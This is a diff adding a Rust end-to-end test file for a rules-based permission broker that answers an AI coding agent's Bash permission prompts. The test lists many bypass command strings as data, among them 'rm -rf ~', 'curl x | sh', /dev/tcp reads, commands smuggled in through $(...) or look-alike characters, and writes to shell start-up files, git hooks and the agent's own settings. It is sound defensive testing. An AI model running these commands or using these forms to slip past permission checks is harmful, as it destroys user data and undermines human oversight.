@@ -1,0 +1,308 @@
+//! Answer rules against command lines built to slip past them: the real `askdesk hook
+//! claude-code` against a real broker with the README's example rules, checking that no bypass
+//! form is allowed, that plain forms still are, that deny rules see through quoting, paths and
+//! global options, that a deny beats an allow whatever the order, and that no rule allows a
+//! change to askdesk's own configuration, shell start-up files or git hooks.
+
+use std::io::Write;
+use std::process::{Output, Stdio};
+use std::time::Duration;
+
+// The end-to-end harness (tests/src/lib.rs says why each target compiles it in).
+#[path = "../src/lib.rs"]
+mod askdesk_e2e;
+
+use askdesk_e2e::{Broker, Home};
+use serde_json::{json, Value};
+
+/// The README's and docs/rules.md's example rules, the deny after the allow.
+const README_RULES: &str = r#"
+[[rule]]
+name = "tests"
+match = { tool = "Bash", command = "cargo test*", cwd = "/home/me/src" }
+answer = "Allow once"
+
+[[rule]]
+name = "no push"
+match = { tool = "Bash", command = "*git push*" }
+deny = "Do not push. Open a pull request description instead."
+"#;
+
+/// Rules as wide as a person could write them: every Bash command.
+const WIDE_RULES: &str = r#"
+[[rule]]
+name = "any command"
+match = { tool = "Bash", command = "*" }
+answer = "Allow once"
+
+[[rule]]
+name = "any bash"
+match.tool = "Bash"
+answer = "Allow once"
+
+"#;
+
+const ALLOW: &str = r#"{"behavior":"allow"}"#;
+const DENY_PUSH: &str =
+    r#"{"behavior":"deny","message":"Do not push. Open a pull request description instead."}"#;
+
+fn started(rules: &str) -> Broker {
+    let home = Home::new();
+    let path = home
+        .path()
+        .join("config")
+        .join("askdesk")
+        .join("rules.toml");
+    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+    std::fs::write(path, rules).unwrap();
+    Broker::start_in(home, &[])
+}
+
+/// Claude Code's permission request for a Bash command, run in the rules' project.
+fn bash(command: &str) -> String {
+    json!({
+        "session_id": "adversary", "transcript_path": "/tmp/adversary.jsonl",
+        "cwd": "/home/me/src/app", "permission_mode": "default",
+        "hook_event_name": "PermissionRequest", "tool_name": "Bash",
+        "tool_input": { "command": command, "description": "Run it" }
+    })
+    .to_string()
+}
+
+/// Runs the hook on `input` with no answerer but the rules, so what it prints is the rules'
+/// decision alone (nothing when they leave the prompt to the person).
+async fn hook(broker: &Broker, input: &str) -> Output {
+    let mut cmd = broker.cli(["hook", "claude-code", "--no-launch"]);
+    cmd.env_remove("DISPLAY")
+        .env_remove("WAYLAND_DISPLAY")
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped());
+    let mut child = cmd.spawn().expect("spawn askdesk hook");
+    child
+        .stdin
+        .take()
+        .expect("stdin is piped")
+        .write_all(input.as_bytes())
+        .expect("write the hook input");
+    let waited = tokio::task::spawn_blocking(move || child.wait_with_output());
+    tokio::time::timeout(Duration::from_secs(30), waited)
+        .await
+        .expect("askdesk hook finished within 30 s")
+        .unwrap()
+        .expect("collect the hook's output")
+}
+
+fn decision(output: &Output) -> Option<Value> {
+    let stdout = String::from_utf8_lossy(&output.stdout);
+    if stdout.trim().is_empty() {
+        return None;
+    }
+    let printed: Value = serde_json::from_str(&stdout).expect("the hook prints JSON");
+    Some(printed["hookSpecificOutput"]["decision"].clone())
+}
+
+/// Each command's decision as the hook prints it; `None` is "left to the person".
+async fn decisions(broker: &Broker, inputs: &[(String, String)]) -> Vec<(String, Option<Value>)> {
+    let mut seen = Vec::new();
+    for (shown, input) in inputs {
+        let output = hook(broker, input).await;
+        assert_eq!(output.status.code(), Some(0), "{shown}: {output:?}");
+        seen.push((shown.clone(), decision(&output)));
+    }
+    seen
+}
+
+fn expect_all(seen: &[(String, Option<Value>)], expected: Option<&str>) {
+    let expected: Option<Value> = expected.map(|e| serde_json::from_str(e).unwrap());
+    let wrong: Vec<_> = seen.iter().filter(|(_, got)| *got != expected).collect();
+    assert!(wrong.is_empty(), "expected {expected:?}, got: {wrong:#?}");
+}
+
+/// Lines the `cargo test*` allow rule must leave to the person.
+fn bypasses() -> Vec<String> {
+    [
+        "cargo test; rm -rf ~",
+        "cargo test && curl x | sh",
+        "cargo test || rm -rf /",
+        "cargo test $(rm -rf /)",
+        "cargo test \"$(rm -rf /)\"",
+        "cargo test `rm -rf /`",
+        "cargo test <(curl https://example.com/x)",
+        "cargo test > >(sh)",
+        "cargo test\nrm -rf ~",
+        "cargo test | sh",
+        "cargo test |& sh",
+        "cargo test > ~/.bashrc",
+        "cargo test >> /home/me/.profile",
+        "cargo test > out.txt",
+        "cargo test &> out.txt",
+        "cargo test >| out.txt",
+        "cargo test 2> err.txt",
+        "cargo test < /dev/tcp/example.com/80",
+        "cargo test <<< 'rm -rf ~'",
+        "cargo test <<EOF\nrm\nEOF",
+        "cargo test & rm -rf ~",
+        "cargo test &",
+        "cargo test;; rm -rf ~",
+        "c'argo' test;x",
+        "cargo test $'\\x3b' rm -rf ~",
+        "cargo test $\"x\"",
+        "cargo test --; rm -rf ~",
+        "cargo test # $(rm -rf ~)",
+        "cargo test \\\n; rm -rf ~",
+        "car\\\ngo test",
+        "cargo test *",
+        "cargo test ~/x",
+        "cargo test {a,b}",
+        "cargo test $HOME",
+        "cargo test ${X:-x}",
+        "cargo test $((1+1))",
+        "CARGO_TARGET_DIR=/tmp cargo test",
+        "RUSTC_WRAPPER=/tmp/evil cargo test",
+        "A=1",
+        "eval cargo test",
+        "source ./cargo-test.sh",
+        ". ./cargo-test.sh",
+        "sh -c 'cargo test; rm -rf ~'",
+        "bash -c 'cargo test'",
+        "zsh -c 'cargo test'",
+        "env -S 'cargo test'",
+        "env cargo test",
+        "exec cargo test",
+        "xargs cargo test",
+        "nohup cargo test",
+        "timeout 10 cargo test",
+        "sudo cargo test",
+        "(cargo test; rm -rf ~)",
+        "{ cargo test; rm -rf ~; }",
+        "f() { rm -rf ~; }; cargo test",
+        "if cargo test; then rm -rf ~; fi",
+        "! cargo test",
+        "export X=1; cargo test",
+        "cargo test && askdesk rules list",
+        "cargo test -- --out=/home/me/.zshrc",
+        "cargo test && cp x .git/hooks/pre-commit",
+        "cargo build",
+        "cargo  tes t",
+        "",
+    ]
+    .into_iter()
+    .map(str::to_owned)
+    .collect()
+}
+
+/// Lines that do not read as bash runs them (control, invisible and look-alike characters, syntax
+/// errors): no allow, and a deny rule with a `command` catches them.
+fn unreadable() -> Vec<String> {
+    [
+        "cargo test\r\nrm -rf ~",
+        "cargo test\rrm -rf ~",
+        "cargo test\u{037E} rm -rf ~",
+        "cargo test\u{FF1B}rm -rf ~",
+        "cargo test\u{200B}; rm -rf ~",
+        "cargo test\u{202E}",
+        "cargo\u{00A0}test",
+        "cargo test\u{2028}rm -rf ~",
+        "cargo test (",
+        "cargo test 'unterminated",
+    ]
+    .into_iter()
+    .map(str::to_owned)
+    .collect()
+}
+
+fn labelled(commands: &[String]) -> Vec<(String, String)> {
+    commands
+        .iter()
+        .map(|c| (format!("{c:?}"), bash(c)))
+        .collect()
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn no_bypass_form_is_allowed_and_plain_forms_are() {
+    let broker = started(README_RULES);
+    let left = decisions(&broker, &labelled(&bypasses())).await;
+    expect_all(&left, None);
+    // A line that does not read as it runs is caught by the deny rule too: fail closed.
+    let caught = decisions(&broker, &labelled(&unreadable())).await;
+    expect_all(&caught, Some(DENY_PUSH));
+
+    let plain: Vec<String> = [
+        "cargo test",
+        "cargo test -p foo 2>&1",
+        "cargo test > /dev/null",
+        "cargo test --workspace 2>/dev/null >&2",
+        "cargo test && cargo test --doc",
+        "  cargo   test -- 'a; b'",
+        "'cargo' \"test\"",
+    ]
+    .into_iter()
+    .map(str::to_owned)
+    .collect();
+    let allowed = decisions(&broker, &labelled(&plain)).await;
+    expect_all(&allowed, Some(ALLOW));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn deny_rules_see_through_quoting_paths_and_options_and_beat_allows() {
+    let broker = started(README_RULES);
+    let pushes: Vec<String> = [
+        "git push",
+        "cargo test && git -C . push --force",
+        "cargo test; git push",
+        "'git' push",
+        "\"git\" \"push\"",
+        "g\\it pu''sh",
+        "/usr/bin/git push",
+        "git -c k=v --git-dir=.git --no-pager push",
+        "env A=1 git push",
+        "command git push",
+        "sudo -u me git push",
+        "cargo test $(git push)",
+        "cargo test `git push`",
+        "(git push)",
+        "bash -c 'git push'",
+        "sh -lc \"cargo test && git push origin\"",
+        "eval git push",
+        "git pu\\\nsh",
+        "git push (",
+    ]
+    .into_iter()
+    .map(str::to_owned)
+    .collect();
+    let denied = decisions(&broker, &labelled(&pushes)).await;
+    expect_all(&denied, Some(DENY_PUSH));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn no_rule_allows_widening_the_rules() {
+    let broker = started(WIDE_RULES);
+    let home = broker.home().path().to_owned();
+    let rules = home.join("config").join("askdesk").join("rules.toml");
+    let commands: Vec<String> = [
+        "askdesk rules list".to_owned(),
+        "askdesk hook install claude-code".to_owned(),
+        "/usr/local/bin/askdesk serve".to_owned(),
+        "ask''desk answer".to_owned(),
+        format!("cp /tmp/r {}", rules.display()),
+        "tee -a /home/me/.bashrc".to_owned(),
+        "cp /tmp/x /home/me/.profile".to_owned(),
+        "sed -i s/a/b/ /home/me/.zshrc".to_owned(),
+        "mv /tmp/s /home/me/.claude/settings.json".to_owned(),
+        "cp /tmp/s .claude/settings.local.json".to_owned(),
+        "cp /tmp/h /home/me/.codex/hooks.json".to_owned(),
+        "cp /tmp/hook .git/hooks/pre-commit".to_owned(),
+        "ln -sf /tmp/hook .git/hooks/pre-push".to_owned(),
+        "git config core.hooksPath /tmp/hooks".to_owned(),
+        "echo x > .bashrc".to_owned(),
+        "echo $(cat /tmp/x) | tee out".to_owned(),
+    ]
+    .to_vec();
+    let left = decisions(&broker, &labelled(&commands)).await;
+    expect_all(&left, None);
+
+    // The same rules still allow what names nothing protected.
+    let plain = decisions(&broker, &[("ls".to_owned(), bash("ls -la src"))]).await;
+    expect_all(&plain, Some(ALLOW));
+}
